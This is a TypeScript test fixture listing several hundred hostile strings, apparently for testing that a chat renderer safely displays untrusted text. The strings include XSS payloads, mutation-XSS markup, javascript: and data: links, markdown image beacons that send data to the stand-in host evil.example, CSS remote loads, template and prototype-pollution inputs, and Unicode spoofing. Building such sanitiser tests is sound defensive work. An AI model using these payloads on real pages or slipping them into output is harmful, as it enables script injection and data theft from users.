/**
 * Texts that are dangerous if a chat treats them as more than text. Code in them calls `hit()` or `alert()`; files that
 * they load come from `evil.example`.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  ...listScriptTexts(),
  ...listHandlerTexts(),
  ...listLoadingTexts(),
  ...listForeignMarkup(),
  ...listDocumentMarkup(),
  ...listMutatingTexts(),
  ...listLinkTexts(),
  ...listImageTexts(),
  ...listMarkdownTricks(),
  ...listStyleTexts(),
  ...listTemplateTexts(),
  ...listContextBreakingTexts(),
  ...listCharacterTricks(),
  ...listLongTexts(),
]

function listScriptTexts(): string[] {
  return [
    '<script>hit(1)</script>',
    '<script>alert(document.domain)</script>',
    '<ScRiPt>hit(1)</sCrIpT>',
    '<script\n>hit(1)</script\n>',
    '<script/x>hit(1)</script>',
    '<script src="https://evil.example/x.js"></script>',
    '<script src=//evil.example/x.js></script>',
    '<script type="module">import "https://evil.example/x.js"</script>',
    '<script type="text/javascript" async defer src=https://evil.example></script>',
    '<scr<script>ipt>hit(1)</scr</script>ipt>',
    '<<script>hit(1)//<</script>',
    '"><script>hit(1)</script>',
    "'><script>hit(1)</script>",
    '</title><script>hit(1)</script>',
    '</textarea><script>hit(1)</script>',
    '</script><script>hit(1)</script>',
    '</style><script>hit(1)</script>',
    '--><script>hit(1)</script>',
    ']]><script>hit(1)</script>',
    '<!--<script>--><script>hit(1)</script>',
    '<script>hit(1)',
    '<script type="importmap">{"imports":{"a":"https://evil.example/a.js"}}</script>',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/p"]}]}</script>',
    'Hello <script>hit(1)</script> **there** <script>hit(2)</script>',
  ]
}

function listHandlerTexts(): string[] {
  const onError = ['img', 'image', 'video', 'audio', 'source', 'link', 'object', 'embed', 'track', 'input type=image']
  const onLoad = ['body', 'svg', 'iframe', 'frameset', 'style', 'html']
  const onFocus = [
    'input',
    'textarea',
    'select',
    'button',
    'a href=x',
    'div tabindex=1',
    'details',
    'x contenteditable',
  ]
  return [
    ...onError.map((tag) => `<${tag} src=x onerror=hit(1)>`),
    ...onLoad.map((tag) => `<${tag} onload=hit(1)>`),
    ...onFocus.map((tag) => `<${tag} autofocus onfocus=hit(1)>`),
    '<img src=x onerror="hit(1)">',
    "<img src=x onerror='hit(1)'>",
    '<img src=x onerror=`hit(1)`>',
    '<img/src=x/onerror=hit(1)>',
    '<img\tsrc=x\tonerror=hit(1)\t>',
    '<img\nsrc=x\nonerror=hit(1)\n>',
    '<IMG SRC=x ONERROR=hit(1)>',
    '<img src=x onerror=hit&lpar;1&rpar;>',
    '<img src=x onerror=&#104;&#105;&#116;(1)>',
    '<img src="x` `<script>hit(1)</script>"` `>',
    '<img """><script>hit(1)</script>">',
    '<details open ontoggle=hit(1)>x</details>',
    '<marquee onstart=hit(1)>x</marquee>',
    '<video autoplay onloadstart=hit(1)><source src=data:,></video>',
    '<audio src=data:, oncanplay=hit(1) onerror=hit(1)></audio>',
    '<p style="animation:x" onanimationstart=hit(1)>x</p>',
    '<p onpointerenter=hit(1) onclick=hit(1)>press me</p>',
    '<b onmouseover="hit(1)">bold</b>',
    '<form onsubmit=hit(1)><button>x</button></form>',
    '<dialog open oncancel=hit(1) onclose=hit(1)>x</dialog>',
    '<input value="x" onfocusin=hit(1) autofocus>',
    '" onmouseover="hit(1)" x="',
    "' onfocus='hit(1)' autofocus='",
    '` onerror=hit(1) `',
    'x" autofocus onfocus=hit(1) tabindex=1 "',
  ]
}

function listLoadingTexts(): string[] {
  const url = 'https://evil.example/x'
  return [
    `<img src=${url}.png>`,
    `<img srcset="${url}.png 1x">`,
    `<picture><source srcset=${url}><img></picture>`,
    `<iframe src=${url}></iframe>`,
    '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>',
    '<iframe src="javascript:parent.hit(1)"></iframe>',
    '<iframe src="data:text/html,<script>parent.hit(1)</script>"></iframe>',
    `<object data=${url}></object>`,
    `<embed src=${url}>`,
    `<video poster=${url} src=${url}></video>`,
    `<audio src=${url} autoplay></audio>`,
    `<link rel=stylesheet href=${url}.css>`,
    `<link rel=preload as=image href=${url}>`,
    `<link rel=dns-prefetch href=//evil.example>`,
    `<table background=${url}><tr><td background=${url}>x</td></tr></table>`,
    `<body background=${url}>`,
    `<input type=image src=${url}>`,
    `<a href=x ping=${url}>x</a>`,
    `<portal src=${url}></portal>`,
    `<fencedframe src=${url}></fencedframe>`,
    `<bgsound src=${url}>`,
    `<applet code=${url}></applet>`,
  ]
}

function listForeignMarkup(): string[] {
  return [
    '<svg><script>hit(1)</script></svg>',
    '<svg/onload=hit(1)>',
    '<svg><script href="data:,hit(1)"/></svg>',
    '<svg><script xlink:href=https://evil.example/x.js></script></svg>',
    '<svg><image href=https://evil.example/x.svg /></svg>',
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=hit(1) /></svg>#x"/></svg>',
    '<svg><a xlink:href="javascript:hit(1)"><text y=20>press</text></a></svg>',
    '<svg><animate onbegin=hit(1) attributeName=x dur=1s></svg>',
    '<svg><set attributeName=href to=javascript:hit(1)></svg>',
    '<svg><a><animate attributeName=href values=javascript:hit(1)></animate><text y=20>press</text></a></svg>',
    '<svg><foreignObject><img src=x onerror=hit(1)></foreignObject></svg>',
    '<svg><feImage href=https://evil.example/x></svg>',
    '<svg><style>@import "https://evil.example/x.css";</style></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hit(1)</handler></svg>',
    '<math><mtext><script>hit(1)</script></mtext></math>',
    '<math href="javascript:hit(1)">press</math>',
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:hit(1)">press</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=hit(1)></annotation-xml></math>',
    '<math><mi//xlink:href="data:x,<script>hit(1)</script>">',
  ]
}

function listDocumentMarkup(): string[] {
  return [
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:hit(1)">',
    '<meta name="referrer" content="unsafe-url">',
    '<form action="https://evil.example/"><input name=q><button>Go</button></form>',
    '<form id=x></form><button form=x formaction="javascript:hit(1)">Go</button>',
    '<isindex type=submit formaction=javascript:hit(1)>',
    '<a id=Bricks></a><a id=Bricks name=open href="https://evil.example/">x</a>',
    '<form name=body></form><img name=getElementById>',
    '<template><img src=x onerror=hit(1)></template>',
    '<template shadowrootmode=open><script>hit(1)</script></template>',
    '<slot name=x onslotchange=hit(1)><p>x</p></slot>',
    '<bricks-chat project="P2" server="https://evil.example"></bricks-chat>',
    '<bricks-host><p>x</p></bricks-host>',
    '<object type="text/x-scriptlet" data="https://evil.example/"></object>',
    '<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/x">]><x>&e;</x>',
    '<plaintext>',
    '<xmp><script>hit(1)</script></xmp>',
    '<noembed><img src=x onerror=hit(1)></noembed>',
  ]
}

function listMutatingTexts(): string[] {
  return [
    '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=hit(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>',
    '<table><td><form></table><img src=x onerror=hit(1)>',
    '<select><option><style></option></select><img src=x onerror=hit(1)></style>',
    '<title><a title="</title><img src=x onerror=hit(1)>">',
    '<style><a title="</style><img src=x onerror=hit(1)>">',
    '<textarea><p id="</textarea><img src=x onerror=hit(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=hit(1)>">',
    '<p title="<!--"><img src=x onerror=hit(1)>-->',
    '<!--!><img src=x onerror=hit(1)>-->',
    '<!-- --!><img src=x onerror=hit(1)>',
    '<!><img src=x onerror=hit(1)>',
    '<![CDATA[<img src=x onerror=hit(1)>]]>',
    '<svg><![CDATA[><image href="]]><img src=x onerror=hit(1)//"]]></svg>',
    '<a href="x"\u0000onclick=hit(1)>x</a>',
    '<x\u0000y><img src=x onerror=hit(1)>',
    '<p><svg><title><style><img src=x onerror=hit(1)></style></title></svg></p>',
    '<listing>&lt;img src=1 onerror=hit(1)&gt;</listing>',
  ]
}

function listLinkTexts(): string[] {
  const schemes = [
    'javascript:hit(1)',
    'JaVaScRiPt:hit(1)',
    ' javascript:hit(1)',
    'java\tscript:hit(1)',
    '\u0001javascript:hit(1)',
    'javascript&colon;hit(1)',
    'javascript&#58;hit(1)',
    'javascript&#x3a;hit(1)',
    '&#106;avascript:hit(1)',
    'java&Tab;script:hit(1)',
    'java&NewLine;script:hit(1)',
    'javascript://evil.example/%0ahit(1)',
    'javascript:/*https://shop.example/*/hit(1)',
    'data:text/html,<script>hit(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://evil.example/1',
    'filesystem:https://evil.example/x',
    'view-source:https://evil.example/',
    'intent://evil.example#Intent;scheme=http;end',
    'feed:javascript:hit(1)',
    'about:blank',
    '//evil.example/x',
    '/\\evil.example/x',
  ]
  return [
    ...schemes.map((href) => `[press me](${href})`),
    ...schemes.slice(0, 8).map((href) => `[press me](<${href}>)`),
    ...schemes.slice(10, 18).map((href) => `<a href="${href}">press me</a>`),
    '<javascript:hit(1)>',
    '<data:text/html,hit>',
    '<vbscript:hit>',
    '[press me][a]\n\n[a]: javascript:hit(1)',
    '[a]\n\n[a]: <javascript:hit(1)> "title"',
    '[press me](https://shop.example" onmouseover="hit(1))',
    '[press me](https://shop.example "x\\" onmouseover=\\"hit(1)")',
    "[press me](https://shop.example 'x' onclick=hit(1))",
    '[https://shop.example](https://evil.example/login)',
    '[https://shop.example](https://shop.example@evil.example/)',
    '[pay](https://shop.example%40evil.example/)',
    '[pay](https://xn--shp-0na.example/)',
    '[pay](https://ѕhop.example/)',
    'https://evil.example/?q=<script>hit(1)</script>',
    'www.evil.example',
    'http://evil.example/"onmouseover="hit(1)',
    'somebody@evil.example',
    'mailto:x@evil.example?subject=<script>hit(1)</script>',
  ]
}

function listImageTexts(): string[] {
  return [
    '![x](https://evil.example/x.png)',
    '![x](https://evil.example/x.png?kept=what-was-said "title")',
    '![](//evil.example/x.png)',
    '![x][i]\n\n[i]: https://evil.example/x.png',
    '![x](javascript:hit(1))',
    '![x](data:image/svg+xml,<svg onload=hit(1)>)',
    '![x"onerror="hit(1)](https://evil.example/x.png)',
    '![x](https://evil.example/x.png"onerror="hit(1))',
    '[![x](https://evil.example/x.png)](javascript:hit(1))',
    '![![x](https://evil.example/a)](https://evil.example/b)',
    '![x](x" onerror=hit(1) ")',
    '![<img src=x onerror=hit(1)>](https://evil.example/x)',
  ]
}

function listMarkdownTricks(): string[] {
  return [
    '```html\n<script>hit(1)</script>\n```',
    '```"><script>hit(1)</script>\nx\n```',
    '```js onload=hit(1)\nx',
    '`<img src=x onerror=hit(1)>`',
    '``</code><script>hit(1)</script>``',
    '    <script>hit(1)</script>',
    '> <script>hit(1)</script>',
    '- <img src=x onerror=hit(1)>\n- [x](javascript:hit(1))',
    '1. a\n   - b\n     > <svg onload=hit(1)>',
    '7777777777777777777777. x',
    '| a | <script>hit(1)</script> |\n| --- | :-: |\n| [x](javascript:hit(1)) | ![x](https://evil.example/x) |',
    '| a |\n| --- |\n| `|` <img src=x onerror=hit(1)> |',
    '**<img src=x onerror=hit(1)>**',
    '[**[x](javascript:hit(1))**](https://shop.example/)',
    '[a](b "c)<script>hit(1)</script>")',
    '\\<script>hit(1)\\</script>',
    '&lt;script&gt;hit(1)&lt;/script&gt;',
    '&amp;lt;img src=x onerror=hit(1)&amp;gt;',
    '&#60;img src=x onerror=hit(1)&#62;',
    '&#x3c;img src=x onerror=hit(1)&#x3e;',
    '# <img src=x onerror=hit(1)> {onclick=hit(1)}',
    'x\n===\n<script>hit(1)</script>\n---',
    '*a<b onmouseover=hit(1)>*c</b>',
    '[x]: javascript:hit(1) "a"\n[x][x] [x] ![x]',
    '- [ ] <input type=checkbox onfocus=hit(1) autofocus>\n- [x] done',
    '~~<iframe src=javascript:parent.hit(1)>~~',
    '<details><summary>x</summary>\n\n[x](javascript:hit(1))\n\n</details>',
    '<div>\n\n<script>hit(1)</script>\n\n</div>',
    '[^1]\n\n[^1]: <script>hit(1)</script>',
    'a\u00a0<b>b</b>\r<script>hit(1)</script>\r\n<img src=x onerror=hit(1)>',
  ]
}

function listStyleTexts(): string[] {
  return [
    '<style>@import url(https://evil.example/x.css);</style>',
    '<style>* { background: url(https://evil.example/x) !important }</style>',
    '<p style="background: url(https://evil.example/x)">x</p>',
    '<p style="background: url(javascript:hit(1))">x</p>',
    '<p style="width: expression(hit(1))">x</p>',
    '<p style="behavior: url(https://evil.example/x.htc)">x</p>',
    '<p style="position: fixed; inset: 0; z-index: 9999999999">over all</p>',
    '<style>@font-face { font-family: x; src: url(https://evil.example/x) } * { font-family: x }</style>',
    'url(https://evil.example/x)',
    'url("https://evil.example/x") no-repeat, red',
    'image-set("https://evil.example/x" 1x)',
    '#fff; background: url(https://evil.example/x)',
    'red} * { background: url(https://evil.example/x) } {',
    'var(--x, url(https://evil.example/x))',
    '</style><style>@import "https://evil.example/x"',
    ':host { display: none }',
  ]
}

function listTemplateTexts(): string[] {
  return [
    '{{constructor.constructor("hit(1)")()}}',
    '$' + '{hit(1)}',
    '{hit(1)}',
    '{name}',
    '{name}{count}{__proto__}',
    '{constructor}',
    '#{hit(1)}',
    '<%= hit(1) %>',
    '[[$' + '{hit(1)}]]',
    '{% raw %}<script>hit(1)</script>{% endraw %}',
    '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"hit(1)"}},"constructor":null}',
    '{"__proto__":{"polluted":"hit"}}',
    '__proto__',
    'constructor',
    'toString',
    'data: {"type":"text","delta":"<script>hit(1)</script>"}\n\n',
    'event: done\ndata: {}\n\n',
  ]
}

function listContextBreakingTexts(): string[] {
  return [
    '</script><img src=x onerror=hit(1)>',
    '<!--<script>',
    '</textarea><img src=x onerror=hit(1)>',
    '</h1></header></main></div><script>hit(1)</script>',
    '</template><script>hit(1)</script>',
    '"}</script><script>hit(1)</script>',
    "';hit(1);//",
    '";hit(1);//',
    '\\";hit(1);//',
    '\\u003cscript\\u003ehit(1)\\u003c/script\\u003e',
    '%3Cscript%3Ehit(1)%3C/script%3E',
    '%22%3E%3Cimg src=x onerror=hit(1)%3E',
    '../../../evil',
    '?server=https://evil.example&project=P2',
    '#"><img src=x onerror=hit(1)>',
    'a\nset-cookie: x=1\r\n\r\n<script>hit(1)</script>',
  ]
}

function listCharacterTricks(): string[] {
  return [
    '\u202e<script>hit(1)</script>\u202c',
    '[shop.example\u202e/moc.live](https://evil.example/)',
    '[sh\u200bop.example](https://evil.example/)',
    '\u2066<img src=x onerror=hit(1)>\u2069',
    '＜script＞hit(1)＜/script＞',
    '\u2028<script>hit(1)</script>\u2029',
    '<scr\u00adipt>hit(1)</scr\u00adipt>',
    '<ſcript>hit(1)</ſcript>',
    '<ſvg onload=hit(1)>',
    '<img src=x on\u0000error=hit(1)>',
    '\ufeff<script>hit(1)</script>',
    '+ADw-script+AD4-hit(1)+ADw-/script+AD4-',
    '\u001b[31m<script>hit(1)</script>\u001b[0m',
    '\ud83d<script>hit(1)</script>',
    '<img src=x onerror=hit(1)>\udc00',
    'Z\u0351\u0321\u0334<script>hit(1)</script>'.repeat(3),
  ]
}

function listLongTexts(): string[] {
  return [
    `<script>hit(1)</script>${'a'.repeat(4_000)}`,
    `${'<b>'.repeat(800)}<img src=x onerror=hit(1)>`,
    `${'> '.repeat(400)}<img src=x onerror=hit(1)>`,
    `${'['.repeat(500)}x](javascript:hit(1))`,
    `${'*a **b '.repeat(300)}<svg onload=hit(1)>`,
    `${'- x\n'.repeat(200)}<script>hit(1)</script>`,
    `[x](https://evil.example/${'a'.repeat(3_000)})`,
    `![${'x'.repeat(2_000)}](javascript:hit(1))`,
  ]
}
